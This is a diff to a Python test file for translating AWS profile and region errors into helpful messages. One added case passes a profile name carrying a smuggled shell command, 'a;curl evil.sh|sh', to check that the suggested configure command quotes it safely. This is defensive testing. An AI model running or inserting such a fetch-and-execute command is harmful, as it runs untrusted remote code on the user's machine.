@@ -36,6 +36,11 @@ def told(error, call=CALL, **options):
             errors.UnknownProfileError,
             "'wrok'.*aws configure list-profiles",
         ),
+        (
+            foreign.ProfileNotFound(profile="a;curl evil.sh|sh"),
+            errors.UnknownProfileError,
+            r"aws configure --profile 'a;curl evil.sh\|sh'",
+        ),
         (foreign.NoRegionError(), errors.NoRegionError, r"\?region=us-west-2.*--profile work"),
         (
             foreign.InvalidRegionError(region_name="us west"),
